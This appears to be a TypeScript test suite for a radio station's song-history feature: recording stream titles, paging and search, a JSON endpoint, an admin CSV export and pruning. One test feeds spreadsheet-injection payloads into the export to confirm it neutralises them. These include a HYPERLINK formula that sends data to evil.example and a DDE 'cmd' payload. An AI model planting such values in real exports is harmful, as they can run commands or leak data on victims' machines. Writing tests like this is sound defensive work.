import { io as connect } from "socket.io-client";
import { createSlot, validateSlot } from "~/models/schedule.server";
import { createShow } from "~/models/shows.server";
import { listSongHistory, pruneSongHistory, recordSongChange } from "~/models/song-history.server";
import { db } from "~/services/db.server";
import { wallKeyAt } from "~/utils/schedule-time";
import { adminCookie } from "./helpers/admin";
import { startTestServer, type TestServer } from "./helpers/server";
import { openCsvInLibreOffice, SEPARATORS } from "./helpers/spreadsheet";

const MINUTE = 60_000;

describe("song history", () => {
  let server: TestServer;

  beforeAll(async () => {
    server = await startTestServer({ STATION_TIMEZONE: "America/New_York", HISTORY_DAYS: "30" });
  });
  afterAll(async () => {
    await server?.stop();
  });

  it("records title changes: repeats skipped, artist split, the show on air attached, published live", async () => {
    const show = await createShow({ name: "Morning Mix", slug: "morning-mix", description: "", colour: "#123456", hostIds: [] });
    const now = Date.now();
    const slotStart = wallKeyAt(new Date(now - 30 * MINUTE), "America/New_York");
    const check = validateSlot({
      kind: "once",
      days: [],
      startDate: slotStart.slice(0, 10),
      startTime: slotStart.slice(11),
      durationMinutes: 60,
      endDate: null,
    });
    if (!check.ok) throw new Error(check.message);
    await createSlot(show.id, check.value);
    const socket = connect(server.url, { transports: ["websocket"] });
    const heard: { action: string; records: { title: string }[] }[] = [];
    socket.on("history:changed", (change) => heard.push(change));
    await new Promise<void>((resolve) => socket.on("connect", () => resolve()));

    const onAir = new Date(now - 10 * MINUTE);
    const first = await recordSongChange({ title: "  Daft Punk - Harder, Better,\u0007 Faster  ", at: onAir });
    expect(first).toMatchObject({ artist: "Daft Punk", title: "Harder, Better, Faster", show: { name: "Morning Mix", slug: "morning-mix" } });
    expect(await recordSongChange({ title: "Daft Punk - Harder, Better, Faster", at: new Date(onAir.getTime() + MINUTE) })).toBeNull();
    const jingle = await recordSongChange({ title: "Station ID", at: new Date(now + 45 * MINUTE) });
    expect(jingle).toMatchObject({ artist: "", title: "Station ID", show: null });
    expect(await recordSongChange({ title: "   ", at: new Date() })).toBeNull();
    await expect.poll(() => heard.map((change) => change.records[0]?.title)).toEqual(["Harder, Better, Faster", "Station ID"]);
    socket.close();
    expect(await db().songPlay.count()).toBe(2);
  });

  it("pages newest first, searches, jumps to a time, and answers /history.json and the admin CSV", async () => {
    await db().songPlay.deleteMany();
    const start = Date.parse("2026-11-20T10:00:00Z");
    // 130 songs, two of them sharing one timestamp so the cursor must break the tie by id.
    await db().songPlay.createMany({
      data: Array.from({ length: 130 }, (_, i) => ({
        playedAt: new Date(start + Math.min(i, 128) * 3 * MINUTE),
        raw: `Artist ${i % 7} - Song ${i}`,
        artist: `Artist ${i % 7}`,
        title: `Song ${i}`,
      })),
    });
    const seen: string[] = [];
    let cursor = null;
    for (;;) {
      const page = await listSongHistory({ cursor });
      seen.push(...page.songs.map((song) => song.title));
      if (!page.nextCursor) break;
      cursor = { playedAt: new Date(Number(page.nextCursor.split(".")[0])), id: BigInt(page.nextCursor.split(".")[1]) };
    }
    expect(seen).toHaveLength(130);
    expect(new Set(seen).size).toBe(130);
    expect(seen[0]).toBe("Song 129");

    const html = (await (await fetch(`${server.url}/history?q=artist%203`)).text()).replaceAll("<!-- -->", "");
    const titles = [...html.matchAll(/song-list__title">([^<]+)</g)].map((m) => m[1]);
    expect(titles.length).toBe(19);
    expect(titles.every((title) => Number(title.split(" ")[1]) % 7 === 3)).toBe(true);

    // Jump to 06:00 New York time (11:00 UTC): the newest song then is the one at 11:00.
    const jumped = (await (await fetch(`${server.url}/history?at=2026-11-20T06:00`)).text()).replaceAll("<!-- -->", "");
    expect(/song-list__title">([^<]+)</.exec(jumped)?.[1]).toBe("Song 20");
    expect((await fetch(`${server.url}/history?at=not-a-time`)).status).toBe(200);
    const older = /href="(\/history\?before=[^"]+)"/.exec(html.replaceAll("&amp;", "&"));
    expect(older).toBeNull();

    const json = await (await fetch(`${server.url}/history.json?from=2026-11-20T11:00:00Z&to=2026-11-20T12:00:00Z&q=song`)).json();
    expect(json.songs.map((song: { title: string }) => song.title)).toEqual(Array.from({ length: 20 }, (_, i) => `Song ${39 - i}`));
    expect((await fetch(`${server.url}/history.json?from=yesterday`)).status).toBe(400);

    expect((await fetch(`${server.url}/history.csv?from=2026-11-20&to=2026-11-20`, { redirect: "manual" })).status).toBe(302);
    const cookie = await adminCookie(server.url);
    const csv = await (await fetch(`${server.url}/history.csv?from=2026-11-20&to=2026-11-20`, { headers: { Cookie: cookie } })).text();
    const lines = csv.trim().split("\n");
    expect(lines[0]).toBe('"played_at_utc","played_at_local (America/New_York)","artist","title","stream_title","show"');
    expect(lines).toHaveLength(131);
    expect(lines[1]).toBe('"2026-11-20T10:00:00.000Z","2026-11-20 05:00:00","Artist 0","Song 0","Artist 0 - Song 0",""');
    expect((await fetch(`${server.url}/history.csv?from=2026-11-21&to=2026-11-20`, { headers: { Cookie: cookie } })).status).toBe(400);
  });

  it("gives a CSV that LibreOffice opens with `,`, `;` or tab as the separator without a single formula cell", async () => {
    await db().songPlay.deleteMany();
    // As stored (from the stream, or an imported archive): the export must be safe whatever a row holds.
    const hostile = [
      "Song;=1+1;",
      'Song;"=1+1";x',
      '=HYPERLINK("http://evil.example/?"&A1;"click")',
      "+cmd|' /C calc'!A0",
      "-1+1",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
      "Intro\n=1+1",
      "Intro\r\n-2+3",
      " =1+1",
      "\u00a0=1+1",
      "\uff1d1+1",
      "Artist, =1+1",
      "Artist\t@SUM(1)",
      'Quote";=1+1;"',
      '""=1+1',
    ];
    const start = Date.parse("2026-11-22T12:00:00Z");
    await db().songPlay.createMany({
      data: hostile.map((text, i) => ({ playedAt: new Date(start + i * MINUTE), raw: text, artist: text, title: `Song ${i} ${text}`, showName: text })),
    });
    const cookie = await adminCookie(server.url);
    const csv = await (await fetch(`${server.url}/history.csv?from=2026-11-22&to=2026-11-22`, { headers: { Cookie: cookie } })).text();
    for (const [name, separator] of Object.entries(SEPARATORS)) {
      const sheet = await openCsvInLibreOffice(csv, separator);
      expect(sheet.formulas, name).toEqual([]);
      // LibreOffice did read the rows: the header and every song are there.
      expect(
        sheet.texts.some((text) => text.includes("played_at_utc")),
        name,
      ).toBe(true);
      expect(
        hostile.every((_, i) => sheet.texts.some((text) => text.includes(`Song ${i} `))),
        name,
      ).toBe(true);
    }
  });

  it("keeps spreadsheet formulas out of the CSV and prunes songs older than HISTORY_DAYS", async () => {
    await db().songPlay.deleteMany();
    await recordSongChange({ title: '=HYPERLINK("http://evil") - x', at: new Date("2026-11-21T12:00:00Z") });
    const cookie = await adminCookie(server.url);
    const csv = await (await fetch(`${server.url}/history.csv?from=2026-11-21&to=2026-11-21`, { headers: { Cookie: cookie } })).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil"")"`);
    await db().songPlay.create({ data: { playedAt: new Date(Date.now() - 31 * 86_400_000), raw: "Old", title: "Old" } });
    await db().songPlay.create({ data: { playedAt: new Date(Date.now() - 29 * 86_400_000), raw: "Recent", title: "Recent" } });
    expect(await pruneSongHistory()).toBe(1);
    expect((await db().songPlay.findMany({ select: { raw: true } })).map((row) => row.raw).sort()).toEqual(['=HYPERLINK("http://evil") - x', "Recent"]);
  });
});
